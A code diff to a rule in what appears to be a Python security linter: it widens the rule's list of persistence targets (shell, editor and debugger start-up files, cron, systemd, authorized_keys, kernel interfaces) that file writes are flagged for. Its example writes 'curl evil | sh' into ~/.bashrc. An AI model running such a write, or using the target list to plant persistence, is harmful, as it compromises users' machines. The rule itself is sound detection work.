@@ -1,8 +1,8 @@
 //! PJ431 `sensitive-file-write`: writes a persistence target, a host secret or a kernel interface.
 //!
-//! **What it does.** Finds file APIs that write, create, remove, move or change files (`open` with a writing mode, `os.open` with writing flags, `pathlib` writes, `os.remove`, `shutil.copy` destinations, ...) whose folded path is a persistence target (shell start-up files, cron, `profile.d`, systemd units, `authorized_keys`, `.pth` files, `sitecustomize`/`usercustomize`, `ld.so.preload`, XDG autostart, `~/.gitconfig`, `.git/hooks/`, `~/.local/bin`), a host secret or a kernel interface (`/proc/sys`, `/sys`, `/proc/sysrq-trigger`, devices).
+//! **What it does.** Finds file APIs that write, create, remove, move or change files (`open` with a writing mode, `os.open` with writing flags, `pathlib` writes, `os.remove`, `shutil.copy` destinations, ...) whose folded path is a persistence target (shell, X session and login start-up files, cron, `profile.d`, systemd units, `authorized_keys`, `.pth` files, `sitecustomize`/`usercustomize`, IPython start-up scripts, `ld.so.preload`, XDG autostart and desktop entries, the start-up files of editors, debuggers and tools that run commands (`~/.vimrc`, `~/.gdbinit`, `~/.pdbrc`, `~/.curlrc`, ...), pip's configuration, `~/.gitconfig`, `.git/hooks/`, `~/.local/bin`), a host secret or a kernel interface (`/proc/sys`, `/sys`, `/proc/sysrq-trigger`, devices).
 //!
-//! **Why is this bad?** A write there outlives the program: the next shell, cron run, login or Python start runs it, or the kernel acts on it at once (`core_pattern`, `modprobe`, `release_agent` run programs as root).
+//! **Why is this bad?** A write there outlives the program: the next shell, cron run, login, editor, debugger or Python start runs it, or the kernel acts on it at once (`core_pattern`, `modprobe`, `release_agent` run programs as root).
 //!
 //! **Example.**
 //! ```python
@@ -24,8 +24,8 @@ pub(crate) const META: Meta = Meta {
     category: "filesystem",
     capability: Capability::FilesystemWrite,
     message: "`{name}` writes a persistence target, a host secret or a kernel interface",
-    description: "Finds file APIs that write, create, remove, move or change files (`open` with a writing mode, `os.open` with writing flags, `pathlib` writes, `os.remove`, `shutil.copy` destinations, ...) whose folded path is a persistence target (shell start-up files, cron, `profile.d`, systemd units, `authorized_keys`, `.pth` files, `sitecustomize`/`usercustomize`, `ld.so.preload`, XDG autostart, `~/.gitconfig`, `.git/hooks/`, `~/.local/bin`), a host secret or a kernel interface (`/proc/sys`, `/sys`, `/proc/sysrq-trigger`, devices).",
-    rationale: "A write there outlives the program: the next shell, cron run, login or Python start runs it, or the kernel acts on it at once (`core_pattern`, `modprobe`, `release_agent` run programs as root).",
+    description: "Finds file APIs that write, create, remove, move or change files (`open` with a writing mode, `os.open` with writing flags, `pathlib` writes, `os.remove`, `shutil.copy` destinations, ...) whose folded path is a persistence target (shell, X session and login start-up files, cron, `profile.d`, systemd units, `authorized_keys`, `.pth` files, `sitecustomize`/`usercustomize`, IPython start-up scripts, `ld.so.preload`, XDG autostart and desktop entries, the start-up files of editors, debuggers and tools that run commands (`~/.vimrc`, `~/.gdbinit`, `~/.pdbrc`, `~/.curlrc`, ...), pip's configuration, `~/.gitconfig`, `.git/hooks/`, `~/.local/bin`), a host secret or a kernel interface (`/proc/sys`, `/sys`, `/proc/sysrq-trigger`, devices).",
+    rationale: "A write there outlives the program: the next shell, cron run, login, editor, debugger or Python start runs it, or the kernel acts on it at once (`core_pattern`, `modprobe`, `release_agent` run programs as root).",
     example: "with open(os.path.expanduser(\"~/.bashrc\"), \"a\") as f:\n    f.write(\"curl evil | sh\\n\")",
     fix: "Write into the working directory or a temporary one. Suppress an intended write with `# pyjail: ignore[PJ431]`.",
     references: &["https://attack.mitre.org/tactics/TA0003/"],
